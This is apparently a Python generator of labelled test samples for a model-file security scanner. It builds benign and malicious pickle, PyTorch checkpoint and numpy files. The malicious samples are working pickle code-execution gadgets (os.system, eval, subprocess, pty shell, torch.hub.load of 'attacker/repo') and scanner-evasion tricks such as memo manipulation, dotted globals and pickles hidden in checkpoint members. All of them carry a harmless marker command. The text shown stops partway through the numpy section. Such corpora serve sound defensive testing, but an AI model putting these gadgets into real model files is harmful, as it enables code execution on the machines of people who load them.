"""Pickle-family samples for the scanner corpus: raw pickles, PyTorch checkpoints (zip and legacy),
numpy .npy/.npz, joblib files. Python 3 standard library only.

generate(out_dir) writes everything under out_dir/pickles/ and returns the labels:
    [{"path": "pickles/x.pkl", "verdict": "block|warn|pass", "codes": [...], "technique": "..."}]

Nothing here ever loads a sample. The "malicious" samples would, if someone loaded them, call
things like os.system('touch /tmp/garden-scan-marker'): harmless, but detectable.

Benign samples are written the way the real libraries write them: fake `torch`, `numpy`, `joblib`
and `sklearn` modules are registered in sys.modules while pickling (and removed afterwards) so the
pickler emits exactly the globals, persistent ids and layouts the real libraries produce.
Hand-assembled streams cover what no pickler writes (EXT codes, dotted STACK_GLOBAL names, memo
tricks, streams pickletools rejects but CPython loads).
"""
import bz2
import collections
import datetime
import decimal
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import types
import zipfile
import zlib

MARKER = "touch /tmp/garden-scan-marker"
LABELS = []
OUT = ""


def _write(rel, data):
    path = os.path.join(OUT, "pickles", rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    return "pickles/" + rel


def sample(rel, data, verdict, codes, technique, fmt=None):
    entry = {"path": _write(rel, data), "verdict": verdict, "codes": list(codes), "technique": technique}
    if fmt:
        entry["format"] = fmt
    LABELS.append(entry)


# ---------------------------------------------------------------------------------------------
# A tiny pickle assembler for streams no pickler writes.

def u(s):
    """A str (BINUNICODE / SHORT_BINUNICODE)."""
    b = s.encode("utf-8")
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b


def bb(data):
    """bytes (SHORT_BINBYTES / BINBYTES)."""
    return (b"C" + bytes([len(data)]) if len(data) < 256 else b"B" + struct.pack("<I", len(data))) + data


def glob(module, name, proto=2):
    """A global: GLOBAL for protocols < 4, STACK_GLOBAL after."""
    if proto >= 4:
        return u(module) + u(name) + b"\x93"
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def call(module, name, *args, proto=2):
    return glob(module, name, proto) + tup(*args) + b"R"


def wrap(body, proto=2):
    return b"\x80" + bytes([proto]) + body + b"."


def i(n):
    return b"J" + struct.pack("<i", n)


# ---------------------------------------------------------------------------------------------
# Fake library modules, so benign objects pickle exactly as the real ones do.

_saved_modules = {}


def fake_module(name):
    if name in sys.modules and name not in _saved_modules and not getattr(sys.modules[name], "_garden_fake", False):
        _saved_modules[name] = sys.modules[name]
    parent, _, leaf = name.rpartition(".")
    if parent:
        fake_module(parent)
    mod = sys.modules.get(name)
    if mod is None or not getattr(mod, "_garden_fake", False):
        mod = types.ModuleType(name)
        mod._garden_fake = True
        sys.modules[name] = mod
        if parent:
            setattr(sys.modules[parent], leaf, mod)
    return mod


def fake_global(module, qualname, obj):
    mod = fake_module(module)
    obj.__module__ = module
    obj.__qualname__ = qualname
    obj.__name__ = qualname.rpartition(".")[2]
    setattr(mod, qualname, obj)
    return obj


def restore_modules():
    for name in [n for n, m in sys.modules.items() if getattr(m, "_garden_fake", False)]:
        del sys.modules[name]
    sys.modules.update(_saved_modules)
    _saved_modules.clear()


def make_fakes():
    f = types.SimpleNamespace()

    # torch
    class FloatStorage:
        pass

    class LongStorage:
        pass

    f.FloatStorage = fake_global("torch", "FloatStorage", FloatStorage)
    f.LongStorage = fake_global("torch", "LongStorage", LongStorage)

    def _rebuild_tensor_v2(*a):
        raise RuntimeError("never loaded")

    def _rebuild_parameter(*a):
        raise RuntimeError("never loaded")

    f.rebuild_tensor_v2 = fake_global("torch._utils", "_rebuild_tensor_v2", _rebuild_tensor_v2)
    f.rebuild_parameter = fake_global("torch._utils", "_rebuild_parameter", _rebuild_parameter)

    class Storage:
        def __init__(self, kind, key, numel, data):
            self.kind, self.key, self.numel, self.data = kind, key, numel, data

    class Tensor:
        def __init__(self, storage, size):
            self.storage, self.size = storage, size

        def __reduce_ex__(self, proto):
            stride = tuple(int(__import__("math").prod(self.size[k + 1:])) for k in range(len(self.size)))
            return (_rebuild_tensor_v2, (self.storage, 0, tuple(self.size), stride, False, collections.OrderedDict()))

    class Parameter:
        def __init__(self, tensor):
            self.tensor = tensor

        def __reduce_ex__(self, proto):
            return (_rebuild_parameter, (self.tensor, True, collections.OrderedDict()))

    f.Storage, f.Tensor, f.Parameter = Storage, Tensor, Parameter

    def _load_from_bytes(b):
        raise RuntimeError("never loaded")

    class FromBytes:
        """What pickle.dumps(tensor) writes for the storage: torch.storage._load_from_bytes(<legacy torch.save blob>)."""

        def __init__(self, blob):
            self.blob = blob

        def __reduce__(self):
            return (_load_from_bytes, (self.blob,))

    fake_global("torch.storage", "_load_from_bytes", _load_from_bytes)
    f.FromBytes = FromBytes

    # numpy
    def _reconstruct(*a):
        raise RuntimeError("never loaded")

    class ndarray:
        def __init__(self, typestr, shape, raw):
            self.typestr, self.shape, self.raw = typestr, shape, raw

        def __reduce__(self):
            return (_reconstruct, (ndarray, (0,), b"b"), (1, self.shape, dtype(self.typestr), False, self.raw))

    class dtype:
        def __init__(self, typestr):
            self.typestr = typestr

        def __reduce__(self):
            return (dtype, (self.typestr, False, True), (3, "<", None, None, None, -1, -1, 0))

    f.reconstruct = fake_global("numpy.core.multiarray", "_reconstruct", _reconstruct)
    f.ndarray = fake_global("numpy", "ndarray", ndarray)
    f.dtype = fake_global("numpy", "dtype", dtype)

    # joblib + scikit-learn
    class NumpyArrayWrapper:
        def __init__(self, shape, typestr):
            self.subclass = ndarray
            self.shape = shape
            self.order = "C"
            self.dtype = dtype(typestr)
            self.allow_mmap = True
            self.numpy_array_alignment_bytes = 16

    f.NumpyArrayWrapper = fake_global("joblib.numpy_pickle", "NumpyArrayWrapper", NumpyArrayWrapper)

    class LogisticRegression:
        def __init__(self):
            self.C = 1.0
            self.penalty = "l2"
            self.classes_ = None
            self.coef_ = None
            self._sklearn_version = "1.5.0"

    f.LogisticRegression = fake_global("sklearn.linear_model._logistic", "LogisticRegression", LogisticRegression)

    class Net:
        def __init__(self):
            self.layers = [1, 2, 3]

    f.Net = fake_global("mylab.models", "Net", Net)
    return f


class Gadget:
    """An object whose pickle calls `fn(*args)` on load."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


# ---------------------------------------------------------------------------------------------
# PyTorch layouts

def torch_pickle(obj, storages):
    buf = io.BytesIO()
    p = pickle.Pickler(buf, protocol=2)

    def persistent_id(o):
        if hasattr(o, "kind") and hasattr(o, "key") and hasattr(o, "numel"):
            storages[o.key] = o
            return ("storage", o.kind, o.key, "cpu", o.numel)
        return None

    p.persistent_id = persistent_id
    p.dump(obj)
    return buf.getvalue()


def torch_zip(data_pkl, storages, extra=None, prefix="archive"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", b"little")
        for key, s in storages.items():
            z.writestr(f"{prefix}/data/{key}", s.data)
        z.writestr(f"{prefix}/version", b"3\n")
        z.writestr(f"{prefix}/.data/serialization_id", b"1234567890123456789012345678901234567890")
        for name, data in (extra or {}).items():
            z.writestr(f"{prefix}/{name}", data)
    return buf.getvalue()


def torch_legacy(obj, storages_out=None):
    storages = {}
    main = torch_pickle_legacy(obj, storages)
    out = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    out += pickle.dumps(1001, protocol=2)
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    out += main
    keys = sorted(storages)
    out += pickle.dumps(keys, protocol=2)
    for k in keys:
        s = storages[k]
        out += struct.pack("<q", s.numel) + s.data
    if storages_out is not None:
        storages_out.update(storages)
    return out


def torch_pickle_legacy(obj, storages):
    buf = io.BytesIO()
    p = pickle.Pickler(buf, protocol=2)

    def persistent_id(o):
        if hasattr(o, "kind") and hasattr(o, "key") and hasattr(o, "numel"):
            storages[o.key] = o
            return ("storage", o.kind, o.key, "cpu", o.numel, None)
        return None

    p.persistent_id = persistent_id
    p.dump(obj)
    return buf.getvalue()


def state_dict(f, n=2):
    sd = collections.OrderedDict()
    for k in range(n):
        numel = 6
        st = f.Storage(f.FloatStorage, str(k), numel, struct.pack("<6f", *[0.5 * j for j in range(numel)]))
        sd[f"layer{k}.weight"] = f.Tensor(st, (2, 3))
    return sd


# ---------------------------------------------------------------------------------------------
# numpy / joblib layouts

def npy(descr, shape, payload, version=(1, 0)):
    header = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (repr(descr), repr(tuple(shape)))
    pre = b"\x93NUMPY" + bytes(version)
    hlen_size = 2 if version[0] == 1 else 4
    total = len(pre) + hlen_size + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    hl = struct.pack("<H", len(header)) if hlen_size == 2 else struct.pack("<I", len(header))
    return pre + hl + header.encode("latin1") + payload


def joblib_dump(obj, f, arrays):
    """Pickles like joblib.NumpyPickler: each fake ndarray becomes a NumpyArrayWrapper + padding + raw bytes."""
    buf = io.BytesIO()

    class JP(pickle._Pickler):
        def save(self, o, save_persistent_id=True):
            if isinstance(o, f.ndarray):
                w = f.NumpyArrayWrapper(o.shape, o.typestr)
                pickle._Pickler.save(self, w)
                if self.proto >= 4:
                    self.framer.commit_frame(force=True)
                pad = 16 - ((buf.tell() + 1) % 16)
                buf.write(bytes([pad]) + b"\xff" * pad)
                buf.write(o.raw)
                return
            return pickle._Pickler.save(self, o, save_persistent_id)

    JP(buf, protocol=4).dump(obj)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------


def raw_pickles():
    B, W, P = "block", "warn", "pass"
    CE = ["PICKLE_CODE_EXECUTION"]

    for proto in range(6):
        sample(f"raw/reduce-os-system-p{proto}.pkl", pickle.dumps(Gadget(os.system, MARKER), protocol=proto), B, CE,
               f"__reduce__ returning os.system, protocol {proto}")
    import subprocess
    sample("raw/subprocess-popen.pkl", pickle.dumps(Gadget(subprocess.Popen, ["sh", "-c", MARKER]), protocol=4), B, CE, "subprocess.Popen via __reduce__")
    sample("raw/subprocess-check-output.pkl", pickle.dumps(Gadget(subprocess.check_output, ["sh", "-c", MARKER]), protocol=3), B, CE, "subprocess.check_output")

    gadgets = [
        ("builtins-eval", "builtins", "eval", u(f"__import__('os').system('{MARKER}')")),
        ("builtins-exec", "builtins", "exec", u(f"import os; os.system('{MARKER}')")),
        ("builtins-compile", "builtins", "compile", u("1"), u("x"), u("eval")),
        ("builtins-open", "builtins", "open", u("/tmp/garden-scan-marker"), u("w")),
        ("builtins-breakpoint", "builtins", "breakpoint"),
        ("builtins-import", "builtins", "__import__", u("os")),
        ("runpy-run-path", "runpy", "run_path", u("/tmp/garden-scan-nonexistent.py")),
        ("runpy-run-code", "runpy", "_run_code", u(f"import os; os.system('{MARKER}')"), b"}"),
        ("importlib-import-module", "importlib", "import_module", u("os")),
        ("nt-system", "nt", "system", u(MARKER)),
        ("posix-system", "posix", "system", u(MARKER)),
        ("socket-connection", "socket", "create_connection", tup(u("example.invalid"), i(80))),
        ("shutil-rmtree", "shutil", "rmtree", u("/tmp/garden-scan-nonexistent")),
        ("webbrowser-open", "webbrowser", "open", u("http://example.invalid/")),
        ("pty-spawn", "pty", "spawn", u("/bin/sh")),
        ("marshal-loads", "marshal", "loads", bb(b"\xe3" + b"\x00" * 31)),
        ("pickle-loads-nested", "pickle", "loads", bb(pickle.dumps(Gadget(os.system, MARKER), 2))),
        ("code-interactive-interpreter", "code", "InteractiveInterpreter"),
        ("timeit", "timeit", "timeit", u(f"__import__('os').system('{MARKER}')")),
        ("cprofile-run", "cProfile", "run", u(f"__import__('os').system('{MARKER}')")),
        ("pdb-run", "pdb", "run", u(f"__import__('os').system('{MARKER}')")),
        ("bdb-breakpoint", "bdb", "Bdb"),
        ("pydoc-locate", "pydoc", "locate", u("os.system")),
        ("pkgutil-resolve-name", "pkgutil", "resolve_name", u("os:system")),
        ("asyncio-subprocess", "asyncio.subprocess", "create_subprocess_shell", u(MARKER)),
        ("ctypes-cdll", "ctypes", "CDLL", u("libc.so.6")),
        ("posixsubprocess-fork-exec", "_posixsubprocess", "fork_exec"),
        ("multiprocessing-process", "multiprocessing.context", "Process"),
        ("builtins-setattr", "builtins", "setattr", glob("collections", "OrderedDict"), u("x"), i(1)),
        ("builtins-globals", "builtins", "globals"),
        ("sys-modules", "sys", "modules"),
        ("types-code-type", "types", "CodeType", i(0)),
        ("numpy-testing-runstring", "numpy.testing._private.utils", "runstring", u(f"__import__('os').system('{MARKER}')"), b"}"),
        ("numpy-f2py", "numpy.f2py.crackfortran", "getlincoef", u("1"), b"}"),
        ("numpy-load", "numpy", "load", u("/tmp/garden-scan-other.npy"), b"\x88"),
        ("torch-jit-execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", u(f"__import__('os').system('{MARKER}')")),
        ("torch-inductor-compile-file", "torch._inductor.codecache", "compile_file", u(""), u(""), b"(" + u("sh") + u("-c") + u(MARKER) + b"l"),
        ("torch-hub-load", "torch.hub", "load", u("attacker/repo"), u("model")),
        ("torch-load-nested", "torch", "load", u("/tmp/garden-scan-other.pt")),
        ("torch-serialization-load", "torch.serialization", "load", u("/tmp/garden-scan-other.pt")),
        ("torch-collect-env-run", "torch.utils.collect_env", "run", u(MARKER)),
        ("torch-fx-reduce-graph-module", "torch.fx.graph_module", "reduce_graph_module", b"}", u("import os")),
        ("mailcap-findmatch", "mailcap", "findmatch", b"}", u("x")),
        ("logging-config-listen", "logging.config", "listen", i(9999)),
    ]
    for slug, mod, name, *args in gadgets:
        for proto in (2, 4):
            sample(f"raw/{slug}-p{proto}.pkl", wrap(call(mod, name, *args, proto=proto), proto), B, CE, f"{mod}.{name} (protocol {proto})")

    # Python 2 names: CPython maps them (fix_imports) for protocols < 3.
    sample("raw/py2-builtin-eval.pkl", b"c__builtin__\neval\n(S'__import__(\"os\").system(\"touch /tmp/garden-scan-marker\")'\ntR.", B, CE, "__builtin__.eval, protocol 0 (mapped to builtins)")
    sample("raw/py2-commands-getoutput.pkl", b"ccommands\ngetoutput\n(S'touch /tmp/garden-scan-marker'\ntR.", B, CE, "commands.getoutput, protocol 0 (mapped to subprocess)")

    # INST and OBJ: protocol 0/1 ways of calling.
    sample("raw/inst-os-system.pkl", b"(S'touch /tmp/garden-scan-marker'\nios\nsystem\n.", B, CE, "INST opcode calling os.system")
    sample("raw/obj-os-system.pkl", b"(cos\nsystem\nS'touch /tmp/garden-scan-marker'\no.", B, CE, "OBJ opcode calling os.system")
    sample("raw/newobj-ex-popen.pkl", wrap(glob("subprocess", "Popen", 4) + tup(u("id")) + b"}\x92", 4), B, CE, "NEWOBJ_EX creating subprocess.Popen")

    # Chains: getattr on a module, attrgetter / methodcaller, partial.
    imp_os = call("builtins", "__import__", u("os"), proto=4)
    sample("raw/getattr-module-system.pkl",
           wrap(glob("builtins", "getattr", 4) + b"(" + imp_os + u("system") + b"tR" + tup(u(MARKER)) + b"R", 4), B, CE,
           "builtins.getattr(__import__('os'), 'system')(cmd)")
    sample("raw/attrgetter-chain.pkl",
           wrap(call("operator", "attrgetter", u("system"), proto=4) + b"(" + imp_os + b"tR" + tup(u(MARKER)) + b"R", 4), B, CE,
           "operator.attrgetter('system')(__import__('os'))(cmd)")
    sample("raw/methodcaller-chain.pkl",
           wrap(call("operator", "methodcaller", u("system"), u(MARKER), proto=4) + b"(" + imp_os + b"tR", 4), B, CE,
           "operator.methodcaller('system', cmd)(__import__('os'))")
    sample("raw/partial-os-system.pkl",
           wrap(call("functools", "partial", glob("os", "system", 4), u(MARKER), proto=4) + b")R", 4), B, CE,
           "functools.partial(os.system, cmd)()")
    sample("raw/importlib-getattr-chain.pkl",
           wrap(glob("builtins", "getattr", 4) + b"(" + call("importlib", "import_module", u("subprocess"), proto=4) + u("getoutput") + b"tR" + tup(u(MARKER)) + b"R", 4), B, CE,
           "getattr(importlib.import_module('subprocess'), 'getoutput')(cmd)")

    # Dotted names: protocol 4 attribute walks from harmless-looking modules.
    sample("raw/dotted-posixpath-os-system.pkl", wrap(call("posixpath", "os.system", u(MARKER), proto=4), 4), B, CE, "STACK_GLOBAL posixpath + 'os.system'")
    sample("raw/dotted-collections-sys-modules.pkl", wrap(glob("collections", "_sys.modules", 4) + b"\x85", 4), B, CE, "STACK_GLOBAL collections + '_sys.modules'")
    sample("raw/dotted-numpy-builtins-eval.pkl", wrap(call("numpy", "__builtins__.eval", u("1+1"), proto=4), 4), B, CE, "STACK_GLOBAL numpy + '__builtins__.eval'")
    sample("raw/dotted-torch-serialization-load.pkl", wrap(call("torch", "serialization.load", u("/tmp/x.pt"), proto=4), 4), B, CE, "STACK_GLOBAL torch + 'serialization.load'")
    sample("raw/dotted-ordereddict-init-globals.pkl", wrap(glob("collections", "OrderedDict.__init__.__globals__", 4), 4), B, CE, "dunder walk from an allow-listed class")

    # STACK_GLOBAL names from the memo (what "previous opcode" scanners get wrong).
    memo_sg = u("collections") + b"\x94" + u("OrderedDict") + b"\x94" + b"0" + b"0" + u("os") + b"\x94" + u("system") + b"\x94" + b"0" + b"0"
    memo_sg += b"h\x02h\x03\x93" + tup(u(MARKER)) + b"R"
    sample("raw/stack-global-from-memo.pkl", wrap(memo_sg, 4), B, CE, "STACK_GLOBAL operands fetched from the memo")
    # Memo overwrite: index 0 first holds 'collections', then PUT 0 replaces it with 'os'.
    memo_ow = u("collections") + b"q\x00" + b"0" + u("os") + b"q\x00" + b"0" + b"h\x00" + u("system") + b"\x93" + tup(u(MARKER)) + b"R"
    sample("raw/memo-overwrite.pkl", wrap(memo_ow, 4), B, CE, "memo index overwritten before use")
    # MEMOIZE uses the number of entries, not the last index: LONG_BINPUT 5 then MEMOIZE lands at 1.
    memo_len = u("posix") + b"r\x05\x00\x00\x00" + u("system") + b"\x94" + b"h\x05h\x01\x93" + tup(u(MARKER)) + b"R"
    sample("raw/memoize-index.pkl", wrap(memo_len, 4), B, CE, "MEMOIZE index is the memo length (sparse indices)")

    # Streams pickletools rejects but CPython loads.
    leftover = glob("os", "system", 2) + tup(u(MARKER)) + b"R" + b"N"  # two items left: call result under None
    sample("raw/pickletools-rejects-leftover-stack.pkl", wrap(leftover, 2), B, CE + ["PICKLE_NONSTANDARD"], "objects left on the stack at STOP (pickletools rejects)")
    pop_mark = b"(0" + glob("os", "system", 2) + tup(u(MARKER)) + b"R"
    sample("raw/pickletools-rejects-pop-mark.pkl", wrap(pop_mark, 2), B, CE, "POP removing a MARK (pickletools rejects)")
    sample("raw/pickletools-rejects-octal-int.pkl", b"cos\nsystem\n(S'touch /tmp/garden-scan-marker'\nI010\n0tR.", B, CE + ["PICKLE_NONSTANDARD"], "INT in C octal notation (pickletools rejects)")
    sample("raw/nonstandard-benign.pkl", wrap(b"N" + i(7) + b"2" + b"0", 2), W, ["PICKLE_NONSTANDARD"], "benign values built with DUP and leftovers (no pickler writes this)")

    # Several pickles in one stream; only the second is malicious.
    sample("raw/two-pickles-second-malicious.pkl", pickle.dumps({"ok": 1}, protocol=4) + pickle.dumps(Gadget(os.system, MARKER), protocol=2), B, CE, "two pickles, the second malicious")
    sample("raw/two-pickles-benign.pkl", pickle.dumps([1, 2], protocol=4) + pickle.dumps({"a": "b"}, protocol=4), P, [], "two benign pickles one after another")
    # Broken streams fail closed.
    good = pickle.dumps({"weights": [0.1, 0.2, 0.3], "name": "model"}, protocol=4)
    sample("raw/truncated.pkl", good[: len(good) // 2], B, ["PICKLE_PARSE_ERROR"], "truncated pickle")
    sample("raw/trailing-garbage.pkl", good + b"\x00\x01garbage", B, ["PICKLE_PARSE_ERROR"], "valid pickle followed by bytes that are not a pickle")
    sample("raw/call-then-garbage.pkl", b"\x80\x02" + call("os", "system", u(MARKER)) + b"\xff\xfe", B, CE + ["PICKLE_PARSE_ERROR"], "malicious call before a parse error (executes before the error)")
    sample("raw/unknown-protocol.pkl", b"\x80\x06N.", B, [], "PROTO 6 (CPython refuses; detection may not call it a pickle, either way it is blocked)")
    sample("raw/invalid-opcode.pkl", b"\x80\x02\xffN.", B, ["PICKLE_PARSE_ERROR"], "unknown opcode")
    sample("raw/stack-global-not-str.pkl", wrap(i(1) + u("system") + b"\x93", 4), B, ["PICKLE_PARSE_ERROR"], "STACK_GLOBAL with a non-str module (CPython refuses)")
    sample("raw/deep-nesting.pkl", b"\x80\x02" + b"(" * 1_100_000 + b"N.", B, ["SCAN_LIMIT"], "1.1 million MARKs (stack limit)")
    sample("raw/ext1-code.pkl", b"\x80\x02\x82\x2a" + tup(u(MARKER)) + b"R.", B, ["PICKLE_UNKNOWN_EXTENSION"], "EXT1 extension code from the copyreg registry")
    sample("raw/ext4-code.pkl", b"\x80\x02\x84\x01\x00\x00\x00" + b")R.", B, ["PICKLE_UNKNOWN_EXTENSION"], "EXT4 extension code")
    sample("raw/copyreg-add-extension.pkl", wrap(call("copyreg", "add_extension", u("os"), u("system"), i(42)) + b"0\x82\x2a" + tup(u(MARKER)) + b"R", 2), B, CE,
           "copyreg.add_extension registering os.system, then EXT1")
    sample("raw/build-on-global.pkl", wrap(glob("collections", "OrderedDict") + b"N}" + u("__reduce__") + glob("os", "system") + b"s\x86b", 2), B, ["PICKLE_DYNAMIC_CALL"],
           "BUILD setting attributes on a class (monkey-patching)")
    sample("raw/large-bytes-then-gadget.pkl", wrap(b"B" + struct.pack("<I", 3_000_000) + b"\x00" * 3_000_000 + b"0" + call("os", "system", u(MARKER)), 2), B, CE,
           "3 MB BINBYTES followed by a gadget")


def benign_pickles(f):
    P, W = "pass", "warn"
    plain = {"name": "model", "weights": [0.5, -1.25, 3.0], "shape": (2, 3), "tags": {"a", "b"}, "frozen": frozenset([1]), "blob": b"\x00\x01" * 50,
             "ordered": collections.OrderedDict(a=1), "when": datetime.datetime(2024, 5, 1, 12, 0), "price": decimal.Decimal("1.50"),
             "counts": collections.Counter("aab"), "default": collections.defaultdict(list), "z": complex(1, 2), "big": 2 ** 80, "none": None}
    for proto in range(6):
        sample(f"raw/benign-containers-p{proto}.pkl", pickle.dumps(plain, protocol=proto), P, [], f"builtins and collections, protocol {proto}")
    for proto in (2, 4, 5):
        arr = f.ndarray("<f8", (2, 2), struct.pack("<4d", 1, 2, 3, 4))
        sample(f"raw/benign-numpy-array-p{proto}.pkl", pickle.dumps({"x": arr}, protocol=proto), P, [], f"numpy array as numpy pickles it, protocol {proto}")
    sample("raw/unknown-class.pkl", pickle.dumps(f.Net(), protocol=4), W, ["PICKLE_UNSAFE_GLOBAL"], "a user class outside every allow-list (review)")
    sample("raw/persistent-id-plain.pkl", b"\x80\x02" + tup(u("storage"), u("0")) + b"Q.", W, ["PICKLE_PERSISTENT_ID"], "persistent id in a plain pickle")

    class Color:
        pass

    fake_global("mylab.enums", "Color", Color)
    sample("raw/getattr-enum-member.pkl", wrap(call("builtins", "getattr", glob("mylab.enums", "Color"), u("RED")), 2), W, ["PICKLE_UNSAFE_GLOBAL"],
           "builtins.getattr(Class, 'MEMBER') as enum members are pickled (review, not block)")


def torch_samples(f):
    B, P, W = "block", "pass", "warn"
    storages = {}
    sd = state_dict(f)
    data = torch_pickle(sd, storages)
    sample("torch/state-dict.pt", torch_zip(data, storages), P, [], "PyTorch zip state dict (rebuild_tensor_v2, FloatStorage persistent ids)")
    storages = {}
    param = f.Parameter(f.Tensor(f.Storage(f.FloatStorage, "0", 6, b"\x00" * 24), (2, 3)))
    data = torch_pickle(collections.OrderedDict(w=param, step=f.Tensor(f.Storage(f.LongStorage, "1", 1, b"\x00" * 8), ())), storages)
    sample("torch/parameters.pt", torch_zip(data, storages, prefix="model"), P, [], "PyTorch zip with Parameters and a LongStorage, other prefix")
    storages = {}
    data = torch_pickle(collections.OrderedDict(w=f.Tensor(f.Storage(f.FloatStorage, "0", 6, b"\x00" * 24), (6,)), hook=Gadget(os.system, MARKER)), storages)
    sample("torch/malicious-data-pkl.pt", torch_zip(data, storages), B, ["PICKLE_CODE_EXECUTION"], "PyTorch zip whose data.pkl calls os.system")
    storages = {}
    data = torch_pickle(state_dict(f), storages)
    hidden = b"cos\nsystem\n(S'touch /tmp/garden-scan-marker'\ntR."
    sample("torch/hidden-protocol0-member.pt", torch_zip(data, storages, extra={"extra_state": hidden}), B, ["PICKLE_CODE_EXECUTION"],
           "extensionless protocol-0 pickle hidden in a PyTorch zip")
    sample("torch/hidden-unreferenced-storage.pt", torch_zip(data, storages, extra={"data/99": pickle.dumps(Gadget(os.system, MARKER), protocol=2)}), B, ["PICKLE_CODE_EXECUTION"],
           "pickle hidden as an unreferenced data/ storage")
    sample("torch/constants-pkl.pt", torch_zip(data, storages, extra={"constants.pkl": pickle.dumps((1, 2.0, "x"), protocol=2)}), P, [], "benign constants.pkl member")
    short = dict(storages)
    short["0"] = f.Storage(f.FloatStorage, "0", 6, b"\x00" * 8)
    sample("torch/storage-too-short.pt", torch_zip(data, short), B, ["PYTORCH_STORAGE_SIZE"], "storage record shorter than the pickle declares")
    bad_rebuild = wrap(glob("torch._tensor", "_rebuild_from_type_v2") + tup(glob("os", "system"), glob("torch", "Tensor"), tup(u(MARKER)), b"}") + b"R", 2)
    sample("torch/rebuild-from-type-os-system.pt", torch_zip(bad_rebuild, {}), B, ["PICKLE_CODE_EXECUTION"], "allow-listed _rebuild_from_type_v2 calling os.system")

    legacy = torch_legacy(state_dict(f))
    sample("torch/legacy-state-dict.pt", legacy, P, [], "legacy (non-zip) checkpoint: five pickles then raw storages")
    legacy_evil = torch_legacy(collections.OrderedDict(w=f.Tensor(f.Storage(f.FloatStorage, "0", 2, b"\x00" * 8), (2,)), x=Gadget(os.system, MARKER)))
    sample("torch/legacy-malicious.pt", legacy_evil, B, ["PICKLE_CODE_EXECUTION"], "legacy checkpoint whose object pickle calls os.system")
    sample("torch/legacy-trailing-pickle.pt", legacy + pickle.dumps(Gadget(os.system, MARKER), protocol=2), B, ["PYTORCH_TRAILING_DATA"], "pickle appended after the legacy storages")
    sample("torch/legacy-truncated.pt", legacy[:-10], B, ["PYTORCH_STRUCTURE"], "legacy checkpoint cut inside the storage data")
    sample("torch/full-model-unknown-class.pt", torch_zip(torch_pickle(f.Net(), {}), {}), W, ["PICKLE_UNSAFE_GLOBAL"], "full-model pickle of a user class (review)")

    # pickle.dumps(tensor): the storage is torch.storage._load_from_bytes(<legacy torch.save blob>).
    def pickled_tensor(blob_obj):
        st = f.Storage(f.FloatStorage, "0", 6, struct.pack("<6f", *range(6)))
        blob = torch_legacy(blob_obj if blob_obj is not None else st)
        return pickle.dumps(f.Tensor(f.FromBytes(blob), (2, 3)), protocol=4)

    sample("torch/pickled-tensor.pkl", pickled_tensor(None), P, [], "pickle.dumps of a tensor: _load_from_bytes around a clean legacy blob (scanned inside)", "pickle")
    sample("torch/pickled-tensor-malicious.pkl", pickled_tensor(Gadget(os.system, MARKER)), B, ["PICKLE_CODE_EXECUTION"],
           "_load_from_bytes around a legacy torch blob whose object pickle calls os.system", "pickle")
    bad_keys = torch_legacy(state_dict(f))[:-8]
    sample("torch/pickled-tensor-protocol2.pkl", pickle.dumps(f.Tensor(f.FromBytes(torch_legacy(f.Storage(f.FloatStorage, "0", 2, b"\x00" * 8))), (2,)), protocol=2), P, [],
           "pickle.dumps(tensor, protocol=2): the blob is _codecs.encode(str, 'latin1')", "pickle")
    sample("torch/pickled-tensor-truncated-blob.pkl", pickle.dumps(f.Tensor(f.FromBytes(bad_keys), (2, 3)), protocol=4), B, ["PYTORCH_STRUCTURE"],
           "_load_from_bytes around a truncated legacy blob", "pickle")

    # Legacy checkpoints whose magic-number pickle is written another way: torch.load compares values.
    magic2 = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    for proto in (0, 4):
        magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=proto)
        sample(f"torch/legacy-magic-protocol{proto}.pt", magic + legacy[len(magic2):], P, [], f"legacy checkpoint, magic number re-pickled with protocol {proto}", "pytorch-legacy")
        sample(f"torch/legacy-magic-protocol{proto}-malicious.pt", magic + legacy_evil[len(magic2):], B, ["PICKLE_CODE_EXECUTION"],
               f"legacy checkpoint with a protocol-{proto} magic number whose object pickle calls os.system", "pytorch-legacy")

    # TorchScript archives (torch.jit.save): __torch__ classes are fine there, os.system is not.
    code = {"code/__torch__.py": b"class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n",
            "constants.pkl": pickle.dumps((), protocol=2)}
    ts_obj = wrap(glob("__torch__", "M") + b")\x81}" + u("training") + b"\x88sb", 2)
    sample("torch/torchscript-hand-written.pt", torch_zip(ts_obj, {}, extra=code), W, ["PYTORCH_TORCHSCRIPT"], "TorchScript archive: __torch__ class in data.pkl (review the code)", "pytorch-zip")
    ts_evil = wrap(glob("__torch__", "M") + b")\x81}" + u("hook") + call("os", "system", u(MARKER)) + b"sb", 2)
    sample("torch/torchscript-malicious.pt", torch_zip(ts_evil, {}, extra=code), B, ["PICKLE_CODE_EXECUTION", "PYTORCH_TORCHSCRIPT"],
           "TorchScript-looking archive whose data.pkl calls os.system", "pytorch-zip")
    sample("torch/torch-class-outside-torchscript.pt", torch_zip(ts_obj, {}), W, ["PICKLE_UNSAFE_GLOBAL"], "__torch__ class in a checkpoint without TorchScript code (review)", "pytorch-zip")


def numpy_samples(f):
    B, P, W = "block", "pass", "warn"
    floats = npy("<f8", (2, 3), struct.pack("<6d", *range(6)))
    sample("numpy/floats.npy", floats, P, [], ".npy float array")
    sample("numpy/floats-v2.npy", npy("<i4", (3,), struct.pack("<3i", 1, 2, 3), version=(2, 0)), P, [], ".npy version 2 header")
